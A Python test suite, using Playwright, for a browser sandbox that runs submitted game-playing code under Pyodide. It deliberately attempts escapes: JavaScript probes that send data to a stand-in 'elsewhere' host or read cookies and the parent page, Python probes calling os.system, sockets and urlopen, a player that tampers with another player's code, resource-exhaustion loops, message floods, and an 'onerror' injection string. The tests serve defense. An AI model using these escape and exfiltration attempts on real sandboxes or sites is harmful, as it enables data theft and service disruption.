"""Players in the lab that do what no player should: docs/security.md names each attack and what stops it. The walls are tried
with JavaScript that may do all that a worker may, the rest with Python, as a player would. A game is open at the table
meanwhile, and goes on."""

import base64
import json
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from player import settled
from playwright.sync_api import Browser, BrowserContext, Page

from engine.player_file import PlayerFile
from engine.tournament import Power, arena
from tests.web.conftest import SANDBOX_STARTS, Host, new_context, offered_headers, page_of, wait_for_engine
from tests.web.lab_runs import ENDED, START, Lab, seat

pytestmark = pytest.mark.usefixtures("one_lab_at_a_time")

OWN, LATE, AGAIN = 2.0, 1.0, 2.0
"""Seconds that a decision may take, that its end may be late, and after which the lab can be used again."""
SLACK = 8.0
"""Seconds by which a busy machine may miss these."""
UNANSWERED = 30.0
"""Seconds after which a sandbox that has begun, and then says nothing, is tried again."""

# For a frame of the lab: starts a worker with this text in place of a sandbox and resolves with what it says. Where the browser
# does not start it at all, it is started again, as the lab starts its sandboxes again.
RAW = """async (code) => {
    const app = document.querySelector('script[src*="page.mjs"]').src;
    const address = "data:text/javascript;charset=utf-8," + encodeURIComponent(code);
    for (const patience of [30_000, 60_000, 120_000]) {
        const frame = document.createElement("iframe");
        frame.src = new URL("lab.html", app);
        await new Promise((go) => { frame.onload = go; document.body.append(frame); });
        const control = new MessageChannel(), talk = new MessageChannel();
        const said = new Promise((go) => {
            talk.port1.onmessage = ({data}) => go(JSON.parse(data));
            control.port1.onmessage = ({data}) => go(data);
            setTimeout(go, patience, "silence");
        });
        frame.contentWindow.postMessage({address, parts: {}}, location.origin, [control.port2, talk.port2]);
        const answer = await said;
        frame.remove();
        if (answer !== "silence") return answer;
    }
    return "silence";
}"""

# Each would tell somebody something, or find something of the page's. `SITE` and `OTHER` are addresses.
DOORS = {
    "fetch": "await fetch(OTHER)",
    "fetch without an answer": "await fetch(OTHER, {mode: 'no-cors', method: 'POST', body: 'x'})",
    "fetch from the site": "await fetch(SITE, {mode: 'no-cors'})",
    "request": "await new Promise((go, no) => { const r = new XMLHttpRequest(); r.open('GET', OTHER); r.onload = go; r.onerror = no; r.send(); })",
    "request that waits": "{ const r = new XMLHttpRequest(); r.open('GET', OTHER, false); r.send(); }",
    "socket": "await new Promise((go, no) => { const s = new WebSocket(OTHER.replace('http', 'ws')); s.onopen = go; s.onerror = no; })",
    "events": "await new Promise((go, no) => { const s = new EventSource(OTHER); s.onopen = go; s.onerror = no; })",
    "transport": "await new WebTransport('https://127.0.0.1:9/').ready",
    "module": "await import(OTHER + 'x.mjs')",
    "module of the site": "await import(SITE)",
    "module in an address": "await import('data:text/javascript,export default 1')",
    "scripts": "importScripts(OTHER + 'x.js')",
    "eval": "(0, eval)('1')",
    "function": "new Function('return 1')()",
    "function of a function": "(() => {}).constructor('return import(OTHER)')()",
    "font": "await new FontFace('x', `url(${OTHER}x.woff)`).load()",
    "database": "await new Promise((go, no) => { const r = indexedDB.open('x'); r.onsuccess = go; r.onerror = no; })",
    "cache": "await caches.open('dicetable-snapshot')",
    "files": "await navigator.storage.getDirectory()",
    "cookies": "if (!(await cookieStore.getAll()).length) throw 'none'",
    "storage": "localStorage.length",
    "document": "document.body",
    "the page": "parent.document",
    "worker of the site": "await new Promise((go, no) => { const w = new Worker(SITE); w.onmessage = go; w.onerror = no; })",
    "worker of a blob": "await new Promise((go, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = go; w.onerror = no; })",
    "worker that asks": "await new Promise((go, no) => { const w = new Worker('data:text/javascript,fetch(\"' + OTHER + '\", {mode: \"no-cors\"}).then(() => postMessage(1), () => postMessage(0))'); w.onmessage = ({data}) => data ? go() : no(); w.onerror = no; })",
    "shared worker": "await new Promise((go, no) => { const w = new SharedWorker('data:text/javascript,onconnect = ({ports: [p]}) => p.postMessage(1)'); w.port.onmessage = go; w.onerror = no; setTimeout(no, 500); })",
    "calls": "new RTCPeerConnection()",
    "notice": "if (!navigator.sendBeacon(OTHER)) throw 'refused'",
}  # fmt: skip
TRY = """
const [SITE, OTHER] = %s;
const within = (milliseconds) => new Promise((_, no) => setTimeout(() => no("no answer"), milliseconds));
const LIMIT = self.origin === "null" ? 2000 : 20_000; // a plain worker is to have time to get what it can
self.onerror = () => true; // a door that fails late, and that nobody waits for any more, does not end the others
self.onmessage = async ({ports: [port]}) => {
    const got = [];
    new BroadcastChannel("lab").postMessage("from the sandbox");
    for (const [name, door] of Object.entries(%s)) {
        try { await Promise.race([door(), within(LIMIT)]); got.push(name); } catch (error) {}
    }
    port.postMessage(JSON.stringify({origin: self.origin, got, tried: %s}));
};"""


@pytest.fixture(scope="module")
def table(chromium: Browser, shared_host: Host) -> Iterator[Page]:
    """A page with a game at the table."""
    with new_context(chromium, reduced_motion="reduce") as context, page_of(context) as page:
        page.goto(shared_host.address + "#/goennen/solo?level=1&seed=TAB1E")
        wait_for_engine(page)
        page.wait_for_selector("button[data-action]", state="attached")
        assert Lab(page, 999_999).first(GOOD)["type"] == "decision", "from here on the lab is there at once"
        yield page
        assert Lab(page, 1_000_000).first(GOOD)["type"] == "decision", (
            "the lab cannot be used after the last attack"
        )


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Host]:
    """Another site, which hears whatever reaches it."""
    running = Host(tmp_path)
    yield running
    running.stop()


@pytest.fixture
def lab(table: Page) -> Lab:
    opened = Lab(table)
    yield opened
    acted(table)


def acted(page: Page) -> int:
    """Takes an action in the table's game, which goes on whatever the lab does: the step after it."""
    begun = time.monotonic()
    page.wait_for_selector("button[data-action]", state="attached")
    step = page.locator("main").get_attribute("data-step")
    page.evaluate("[...document.querySelectorAll('button[data-action]')].at(-1).click()")
    page.wait_for_function("step => document.querySelector('main').dataset.step !== step", arg=step)
    assert time.monotonic() - begun < SLACK
    return int(page.locator("main").get_attribute("data-step") or 0)


GOOD = """
def choose(view):
    return max(view.legal_actions(), key=str)
"""
BAD_LATER = """
seen = 0

def choose(view):
    global seen
    seen += 1
    if seen > 1:
        bad(view)
    return view.legal_actions()[0]
"""


# ---- the walls ----


def test_javascript_with_every_right_gets_nothing(table: Page, shared_host: Host, elsewhere: Host) -> None:
    """What comes later by each of the ways out has arrived, and nothing before it."""
    table.evaluate(
        "window.leaks = []; new BroadcastChannel('lab').onmessage = ({data}) => leaks.push(data); null"
    )
    doors = (
        "{" + ",".join(f"{json.dumps(name)}: async () => {{ {door} }}" for name, door in DOORS.items()) + "}"
    )
    code = TRY % (json.dumps([shared_host.address + "leak.txt", elsewhere.address]), doors, len(DOORS))
    before = len(shared_host.requests)  # of other tests
    found = table.evaluate(RAW, code)
    assert found == {"origin": "null", "got": [], "tried": len(DOORS)}
    with page_of(table.context) as later:
        later.goto(elsewhere.address + "later")
    assert elsewhere.requests == ["404 /later"]
    table.evaluate("fetch('later.txt').then(() => true)")
    asked = shared_host.requests[before:]
    assert "404 /later.txt" in asked and not [each for each in asked if "leak" in each]
    table.evaluate("new BroadcastChannel('lab').postMessage('later'); null")
    table.wait_for_function("leaks.length > 0")
    assert table.evaluate("leaks") == ["later"]
    acted(table)


def test_in_a_plain_worker_they_would_have_got_much(table: Page, shared_host: Host, elsewhere: Host) -> None:
    """So the test above tries what can be had."""
    doors = (
        "{" + ",".join(f"{json.dumps(name)}: async () => {{ {door} }}" for name, door in DOORS.items()) + "}"
    )
    code = TRY % (json.dumps([shared_host.address + "leak.txt", elsewhere.address]), doors, len(DOORS))
    app = shared_host.folder / "plain.mjs"
    app.write_text(code, "utf-8")
    try:
        found = table.evaluate(
            """async (address) => {
                const worker = new Worker(address, {type: "module"}), {port1, port2} = new MessageChannel();
                const said = new Promise((go) => { port1.onmessage = ({data}) => go(JSON.parse(data)); });
                worker.postMessage(null, [port2]);
                const answer = await said;
                worker.terminate();
                return answer;
            }""",
            shared_host.address + "plain.mjs",
        )
    finally:
        app.unlink()
    assert [each for each in shared_host.requests if "leak" in each]
    assert {
        "fetch without an answer",
        "fetch from the site",
        "eval",
        "function",
        "database",
        "cache",
        "files",
    } <= set(found["got"])
    assert elsewhere.requests


@pytest.mark.parametrize(
    "flood", ["for (;;) postMessage('x'.repeat(1000))", "for (;;) reportError(new Error('x'))"]
)
def test_a_worker_that_speaks_past_its_channel_is_ended(table: Page, flood: str) -> None:
    assert table.evaluate(RAW, flood) in ("flood", "broken")
    acted(table)


# ---- what Python finds ----

PROBES = """
import json
found = {}

def probe(do):
    try:
        found[do.__name__] = repr(do())[:200]
    except BaseException as error:
        found[do.__name__] = None

def names():
    import js
    wanted = '''fetch XMLHttpRequest WebSocket EventSource Worker SharedWorker postMessage onmessage onerror addEventListener
        console reportError indexedDB caches navigator location BroadcastChannel MessageChannel MessagePort importScripts
        document window parent close requestAnimationFrame setInterval structuredClone Blob URL Response Request'''
    return [name for name in wanted.split() if hasattr(js, name)] or 1/0

@probe
def script():
    from pyodide.code import run_js
    return run_js("1 + 1")

@probe
def script_of_others():
    import js
    return js.eval("fetch")

@probe
def function():
    import js
    return js.Function.new("return this")()

@probe
def function_of_a_function():
    import js
    return js.Object.constructor("return import('data:text/javascript,0')")()

@probe
def request():
    from pyodide.http import open_url
    return open_url("https://example.org/")

@probe
def request_by_the_library():
    from urllib.request import urlopen
    return urlopen("https://example.org/")

@probe
def socket():
    import socket
    return socket.create_connection(("127.0.0.1", 80), 1)

@probe
def package():
    import pyodide_js
    return pyodide_js.loadPackage("numpy").syncify()

@probe
def process():
    import os
    return os.system("true") + 1 or 1 / 0

probe(names)

def choose(view):
    print(json.dumps(found))
    return view.legal_actions()[0]
"""


def test_python_finds_no_way_out(lab: Lab) -> None:
    last = lab.first(PROBES)
    assert last["type"] == "decision", last
    found = json.loads(last["printed"])
    assert len(found) == 10 and {name: got for name, got in found.items() if got is not None} == {}


def test_what_python_needs_is_there(lab: Lab) -> None:
    """Time, luck and the library still work behind the walls."""
    sound = """
import os, random, statistics, time
def choose(view):
    begun = time.perf_counter()
    time.sleep(0.01)
    assert time.perf_counter() > begun and time.time() > 1.7e9 and len(os.urandom(8)) == 8
    assert 0 <= random.random() < 1 and statistics.mean([1, 2]) == 1.5
    return random.choice(view.legal_actions())
"""
    assert lab.first(sound)["type"] == "decision"


def test_the_view_holds_no_luck_to_come(lab: Lab) -> None:
    """Neither the seed, nor the order of the cards, nor what others hold is anywhere in the interpreter."""
    searching = """
import gc, sys
from engine.game import State
from engine.match import Match

def everything():
    seen, waiting = set(), [*gc.get_objects(), *sys.modules.values()]
    while waiting:
        one = waiting.pop()
        if id(one) in seen:
            continue
        seen.add(id(one))
        yield one
        waiting += gc.get_referents(one)

def choose(view):
    secret = "".join(map(chr, [72, 73, 68, 68, 69, 78, 83, 69, 69, 68]))
    found = []
    for one in everything():
        if isinstance(one, str) and one is not secret and secret in one:
            found.append("seed")
        if isinstance(one, (State, Match)):
            found.append(type(one).__name__)
    position = view.position
    found += [card.id for deck in position.decks for card in deck if card]
    for seat, player in enumerate(position.players):
        if seat != view.seat:
            found += [card.id for card in (*player.hand, player.put_back, *player.discarded) if card]
    if found:
        raise ValueError(str(found))
    raise RuntimeError("nothing")
"""
    lab.begin(
        {
            "kind": "game",
            "game": "goennen",
            "mode": "table",
            "seats": [seat(searching), {"name": "easy"}],
            "seed": "HIDDENSEED",
        }
    )
    last = lab.end()
    assert (last["type"], last["text"]) == ("error", "RuntimeError: nothing")


def test_another_player_is_out_of_reach(lab: Lab) -> None:
    victim = """
PLAN = "keep" + " the " + "ones"
def choose(view):
    global PLAN
    if PLAN != "keep the ones":
        raise ValueError("somebody was here")
    return view.legal_actions()[0]
"""
    thief = """
import builtins, gc, sys
import engine.game, engine.tutto.legal, engine.tutto.view

def choose(view):
    for module in list(sys.modules.values()):
        if hasattr(module, "PLAN"):
            module.PLAN = "stolen"
            raise ValueError("found it")
    # Spoils all that it can reach: its own interpreter.
    engine.tutto.view.View.legal_actions = lambda self: ()
    engine.game.best = builtins.max = builtins.sorted = None
    return sys._getframe().f_back.f_locals["view"].rules.legal_actions(view.position)[0]
"""
    run = {"kind": "game", "game": "tutto", "mode": "table", "seed": "TW0"}
    lab.begin(run | {"seats": [seat(victim, name="victim"), seat(thief, name="thief")]})
    last = lab.end()
    assert last["type"] == "error" and last["seat"] == 1 and "found" not in last["text"], last


# ---- what the browser does to the lab ----

# In the frame of a sandbox: a worker that never runs, `mute` times.
MUTE = """if (location.pathname.endsWith("lab.html") && parent.mute-- > 0) {
    window.Worker = class { postMessage() {} terminate() {} };
}"""


def test_a_sandbox_that_the_browser_never_runs_is_soon_tried_again(page: Page, address: str) -> None:
    """It happens now and then, after an attack has made the browser end another."""
    page.add_init_script(MUTE)
    page.goto(address)
    wait_for_engine(page)
    lab = Lab(page)
    assert lab.first(GOOD)["type"] == "decision"
    page.evaluate("window.mute = 1")
    decision = lab.first(GOOD)
    assert decision["type"] == "decision" and decision["at"] < UNANSWERED
    assert page.evaluate("mute") < 1


# ---- what Python does to the lab ----


def stopped(lab: Lab, *parts: str) -> dict[str, Any]:
    """Plays a game whose second decision is bad, and acts at the table meanwhile: the error, with `late`, the seconds from
    that decision to its end. That it begins shows that the lab can be used at once after the attack before."""
    lab.begin(lab.solo(BAD_LATER, *parts))
    lab.first_news()
    acted(lab.page)
    last = lab.end()
    assert last["type"] == "error" and last["seat"] == 0, last
    (first,) = [each for each in lab.news if each["type"] == "decision"]
    assert first["at"] < AGAIN + SLACK
    print(f"ready after {first['at']:.2f} s, stopped after {last['at'] - first['at']:.2f} s")
    return last | {"late": last["at"] - first["at"]}


LOOPS = {
    "a loop": ("def bad(view):", "    while True: pass"),
    "a loop that catches everything": ("def bad(view):", "  while True:", "    try:", "      while True: pass", "    except BaseException: pass"),
    "short calls": ("import random", "kept = [random.random() for _ in range(1000)]", "def bad(view):", "    while True: sorted(kept)"),
    "a long sum in C": ("import itertools", "def bad(view): sum(itertools.repeat(1))"),
    "sums in C between looks at the clock": ("import itertools", "def bad(view):", "  while True:", "    sum(itertools.repeat(1, 10 ** 7))"),
    "a huge power": ("def bad(view): 9 ** 9 ** 9",),
    "an end that never ends": ("class Slow:", "  def __del__(self):", "    import itertools", "    sum(itertools.repeat(1))", "def bad(view): Slow()"),
}  # fmt: skip


@pytest.mark.parametrize("kind", LOOPS)
def test_an_endless_decision_is_stopped(lab: Lab, kind: str) -> None:
    last = stopped(lab, *LOOPS[kind])
    assert last["kind"] == "timeout" and last["late"] < OWN + LATE + SLACK
    lines = {"a loop": 12, "short calls": 14}
    if kind in lines:
        assert last["line"] == lines[kind], "it was interrupted, and the sandbox has not been ended"


HOGS = {
    "one block": "def bad(view): bytearray(600_000_000)",
    "many": "kept = [bytearray(1_000_000) for _ in range(350)]\ndef bad(view):\n    while True: kept.append(bytearray(1_000_000))",
}


@pytest.mark.parametrize("kind", HOGS)
def test_too_much_memory_is_refused(lab: Lab, kind: str) -> None:
    last = stopped(lab, HOGS[kind])
    assert last["kind"] == "memory" and last["late"] < OWN + LATE + SLACK


CHANNEL = """
import gc
from lab.sandbox import Printer
post = next(one for one in gc.get_objects() if isinstance(one, Printer))._post
"""
FLOODS = {
    "messages": 'while True: post(\'{"printed": "x"}\')',
    "one long message": "post('{\"printed\": \"' + 'x' * 50_000_000 + '\"}')",
    "answers": "for _ in range(100): post('{\"n\": 3}')",
}


@pytest.mark.parametrize("kind", FLOODS)
def test_a_flood_of_messages_is_cut(lab: Lab, kind: str) -> None:
    """A player can find the channel to the referee, but not the page."""
    last = stopped(lab, CHANNEL, "def bad(view):", "    " + FLOODS[kind])
    assert last["kind"] == "flood" and last["late"] < OWN + LATE + SLACK


FILES = {
    "one file": "open('/tmp/x', 'wb').write(bytes(40_000_000))",
    "a file that is made longer": "os.truncate(open('/tmp/x', 'wb').name, 2_000_000_000)",
    "a file again and again": "while True: open('/tmp/x', 'wb').write(bytes(1_000_000))",
    "many files": "for n in range(100_000): open(f'/tmp/{n}', 'wb').write(b'x')",
}


@pytest.mark.parametrize("kind", FILES)
def test_files_end_where_memory_does(lab: Lab, kind: str) -> None:
    """They lie beside Python's memory, where its limit does not reach."""
    last = stopped(lab, "import os", "def bad(view):", "    " + FILES[kind])
    assert last["kind"] == "error" and "No space left" in last["text"]


def test_the_console_is_silent_for_a_player(lab: Lab, table: Page) -> None:
    """What is written there is kept by the browser, and costs the page its memory."""
    heard: list[str] = []
    table.on("console", lambda message: heard.append(message.text))
    loud = """
import pyodide_js
def choose(view):
    for name in ("print", "printErr", "out", "err", "console"):
        try:
            getattr(pyodide_js._module, name)("LOUD")
        except Exception:
            pass
    return view.legal_actions()[0]
"""
    assert lab.first(loud)["type"] == "decision"
    assert not [text for text in heard if "LOUD" in text]


def test_a_player_has_no_timer(lab: Lab) -> None:
    """It would think outside its time."""
    late = """
import js
assert not [name for name in ("setTimeout", "setInterval", "queueMicrotask", "MessageChannel") if hasattr(js, name)]
def choose(view):
    return view.legal_actions()[0]
"""
    assert lab.first(late)["type"] == "decision"


def test_values_without_end_are_shown(lab: Lab, table: Page) -> None:
    """A player that forbids itself a move says minus infinity; that is no fault."""
    sure = """
def values(view):
    first, *others = view.legal_actions()
    return {first: float("inf"), **{each: float("-inf") for each in others}}
"""
    first = lab.first(sure)
    assert first["type"] == "decision"
    found = [value for _, value in first["values"]]
    assert max(found) > 1e308 and (len(found) < 2 or min(found) < -1e308)


def test_who_has_opened_the_page_cannot_keep_the_lab_from_starting(table: Page) -> None:
    """A window that has opened the page may send messages to its frames, and sooner than the page."""
    table.evaluate("""async () => {
        const app = document.querySelector('script[src*="page.mjs"]').src;
        const frame = Object.assign(document.createElement("iframe"), {id: "lab", src: new URL("lab.html", app)});
        await new Promise((go) => { frame.onload = go; document.body.append(frame); });
        document.body.append(Object.assign(document.createElement("iframe"), {name: "stranger"}));
    }""")
    stranger = table.frame("stranger")
    assert stranger
    stranger.evaluate("parent.document.getElementById('lab').contentWindow.postMessage('first', '*')")
    said = table.evaluate("""() => {
        const control = new MessageChannel(), talk = new MessageChannel();
        const address = "data:text/javascript;charset=utf-8," + encodeURIComponent("onmessage = ({ports: [port]}) => port.postMessage('up')");
        const frame = document.getElementById("lab");
        frame.contentWindow.postMessage({address, parts: {}}, location.origin, [control.port2, talk.port2]);
        return new Promise((go) => {
            talk.port1.onmessage = ({data}) => go(data);
            setTimeout(() => go("silence"), 20_000);
        });
    }""")
    table.evaluate("for (const frame of document.querySelectorAll('#lab, [name=stranger]')) frame.remove()")
    assert said == "up"


def test_huge_prints_are_cut(lab: Lab) -> None:
    noisy = """
seen = 0
def choose(view):
    global seen
    seen += 1
    print("y" * 5_000)
    if seen == 2:
        print("x" * 10_000_000)
    if seen > 2:
        raise RuntimeError("enough")
    return view.legal_actions()[0]
"""
    assert lab.play(noisy)["text"] == "RuntimeError: enough"
    assert len(lab.said()) == 20_003 and lab.said().endswith("x\n…\n")


def test_errors_that_nobody_catches_end_nothing(lab: Lab) -> None:
    messy = """
class Mess:
    def __del__(self):
        raise RuntimeError("at the end")

def choose(view):
    Mess()
    return view.legal_actions()[0]
"""
    assert lab.first(messy)["type"] == "decision"
    assert "RuntimeError: at the end" in lab.said()


REPLACED = {
    "print": "builtins.print = builtins.len = builtins.isinstance = lambda *_: 0",
    "json": "json.dumps = lambda *_: 'nothing'",
    "import": "builtins.__import__ = None; sys.modules.clear()",
    "exceptions": "raise type('Own', (BaseException,), {'__str__': lambda self: 1 / 0})()",
    "exit": "import os; os._exit(3)",
}


@pytest.mark.parametrize("kind", REPLACED)
def test_a_player_that_breaks_its_interpreter_breaks_nothing_else(lab: Lab, kind: str) -> None:
    last = lab.play(BAD_LATER, "import builtins, json, sys", "def bad(view):", "    " + REPLACED[kind])
    assert (last["type"], last["seat"]) == ("error", 0), last


FORGED = {
    "an action that is none": '{"n": %d, "action": "win"}',
    "no action": '{"n": %d}',
    "deep": "[" * 5000,
    "values": '{"n": %d, "action": {"keep": 1}, "values": [[1, 2]]}',
    "endless values": '{"n": %d, "action": "win", "values": [["win", 1e400]]}',
    "error": '{"n": %d, "error": {"kind": "<b>", "line": "x", "text": ["<img src=x onerror=escaped=1>"]}}',
    "error text": '{"n": %d, "error": {"kind": "error", "line": -5, "text": "' + "\\u202e<b>" * 1000 + '"}}',
}  # fmt: skip


@pytest.mark.parametrize("kind", FORGED)
def test_an_answer_may_be_anything(lab: Lab, kind: str) -> None:
    forged = FORGED[kind]
    said = f"post({forged!r} % request['n'])" if "%d" in forged else f"post({forged!r})"
    find = "request = next(frame for frame in frames() if 'request' in frame)['request']"
    frames = "import sys\ndef frames():\n    at = sys._getframe()\n    while at:\n        yield at.f_locals\n        at = at.f_back"
    last = lab.play(BAD_LATER, CHANNEL, frames, "def bad(view):", "    " + find, "    " + said)
    assert last["type"] == "error" and last["seat"] == 0 and last["kind"] in ("error", "illegal", "flood"), (
        last
    )
    assert isinstance(last["text"], str) and len(last["text"]) <= 300 and last["line"] is None
    assert "\u202e" not in last["text"]


def test_a_tournament_is_the_same_as_on_the_command_line(lab: Lab) -> None:
    """Games that the lab has played after the verdict are neither counted nor told of."""
    weak = "def choose(view):\n    return view.legal_actions()[-1]\n"
    run = {
        "kind": "tournament",
        "game": "tutto",
        "mode": "table",
        "games": 400,
        "seed": "T",
        "sprt": [0, 200],
        "workers": 2,
    }
    lab.begin(run | {"seats": [{"name": "easy"}, seat(weak, name="weak.py")]})
    last = lab.end()
    here = arena("tutto", ["easy", PlayerFile("weak.py", weak)], 400, "T", Power(processes=1), (0, 200))
    assert last["type"] == "done" and here.test is not None
    assert last["sprt"] == here.test.to_json() and last["sprt"]["verdict"] == "better"
    assert [row["wins"] for row in last["table"]] == here.wins and last["done"] == len(here.results) < 400
    assert [row["rating"] for row in last["table"]] == [each.to_json()["elo"] for each in here.ratings()]
    told = [game for news in lab.news for game in news.get("games", [])]
    assert [game["number"] for game in told] == list(range(len(here.results)))
    assert [tuple(game["result"]["scores"]) for game in told] == [played.scores for played in here.results]


COUNTING = """
games = 0
class Player:
    def __init__(self):
        global games
        games += 1

    def __call__(self, view):
"""
"""The start of a player that knows how many games it has played."""


def test_a_game_with_an_error_is_lost_and_the_tournament_goes_on(lab: Lab) -> None:
    """Four errors of forty games, one of them a loop that is interrupted; the fifth would end it."""
    sometimes = (
        COUNTING
        + """\
        if games in (3, 5, 7):
            raise ValueError("not today")
        while games == 9:
            pass
        return view.legal_actions()[-1]
"""
    )
    run = {"kind": "tournament", "game": "tutto", "mode": "table", "games": 40, "seed": "T", "workers": 1}
    lab.begin(run | {"seats": [seat(sometimes), {"name": "easy"}]})
    last = lab.end()
    assert last["type"] == "done" and last["done"] == 40, last
    assert [row["faults"] for row in last["table"]] == [4, 0]
    told = [game["result"] for news in lab.news for game in news.get("games", [])]
    failed = [result["failed"] for result in told if result["failed"]]
    assert [each["kind"] for each in failed] == ["error", "error", "error", "timeout"]
    assert {each["line"] for each in failed[:3]} == {10} and failed[3]["line"] in (11, 12)
    assert all(result["shares"] == [0, 1] for result in told if result["failed"])


def test_results_before_the_error_that_ends_a_tournament_are_told(lab: Lab) -> None:
    late = (
        "import itertools\n"
        + COUNTING
        + """\
        if games == 12:
            sum(itertools.repeat(1))
        return view.legal_actions()[-1]
"""
    )
    run = {"kind": "tournament", "game": "tutto", "mode": "table", "games": 400, "seed": "T", "workers": 1}
    lab.begin(run | {"seats": [seat(late), {"name": "easy"}]})
    last = lab.end()
    assert (last["type"], last["kind"], last["seat"]) == ("error", "timeout", 0)
    before = [news for news in lab.news if news["type"] == "progress"][-1]
    assert before["done"] == 11 == sum(len(news.get("games", [])) for news in lab.news)


def test_a_tournament_ends_with_its_worst_player(lab: Lab) -> None:
    run = {"kind": "tournament", "game": "tutto", "mode": "table", "games": 40, "seed": "T", "workers": 2}
    lab.begin(run | {"seats": [seat(BAD_LATER, "def bad(view):\n    while True: pass"), {"name": "easy"}]})
    acted(lab.page)
    last = lab.end()
    assert last["type"] == "error" and last["kind"] == "timeout" and last["seat"] == 0
    (counted,) = [news for news in lab.news if news["type"] == "progress"][-1:]
    assert counted["table"][0]["faults"] == 5 and counted["done"] == 5
    assert lab.page.locator("iframe").count() <= 1, "only the frame for the next run is there"


# ---- a link ----

ORDERS = "orders.filter((each) => each?.do).map((each) => ({ do: each.do, code: each.code?.text }))"


def test_the_code_in_a_link_is_shown_and_given_to_no_sandbox(context: BrowserContext, address: str) -> None:
    code = "while True: print('running')\n"
    letters = base64.urlsafe_b64encode(zlib.compress(code.encode())).decode().rstrip("=")
    context.add_init_script(
        """window.orders = [];
        const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (order, ...rest) {
            window.orders.push(order);
            return post.call(this, order, ...rest);
        };"""
    )
    page = context.new_page()
    page.goto(f"{address}#/lab?name=Hers&code={letters}")
    page.wait_for_selector("code-editor[readonly] .cm-content")
    assert page.evaluate("document.querySelector('code-editor').value") == code
    page.keyboard.press("Control+Enter")
    settled(page)
    assert [order for order in page.evaluate(ORDERS) if order["do"] in ("prepare", "seat", "play")] == []
    page.evaluate(
        START, [1, {"kind": "game", "game": "tutto", "mode": "solo", "seats": [seat(GOOD)], "seed": "ASKED"}]
    )
    page.wait_for_function(ENDED + " || news.some(({type}) => type === 'decision')", timeout=SANDBOX_STARTS)
    orders = page.evaluate(ORDERS)
    assert {"prepare", "seat", "play"} <= {order["do"] for order in orders}, (
        "what is asked for would have been seen"
    )
    assert {order["code"] for order in orders if order["do"] == "seat"} == {GOOD}


# ---- the host ----


def test_the_lab_works_with_the_headers_that_the_docs_offer(context: BrowserContext, host: Host) -> None:
    wanted = offered_headers()
    framed = {"Content-Security-Policy": "frame-ancestors 'self'"}
    host.headers = lambda path: framed if path.endswith("/lab.html") else wanted
    page = context.new_page()
    page.goto(host.address + "#/goennen/solo?level=1&seed=HEADERS")
    wait_for_engine(page)
    assert Lab(page).first(GOOD)["type"] == "decision"
    acted(page)
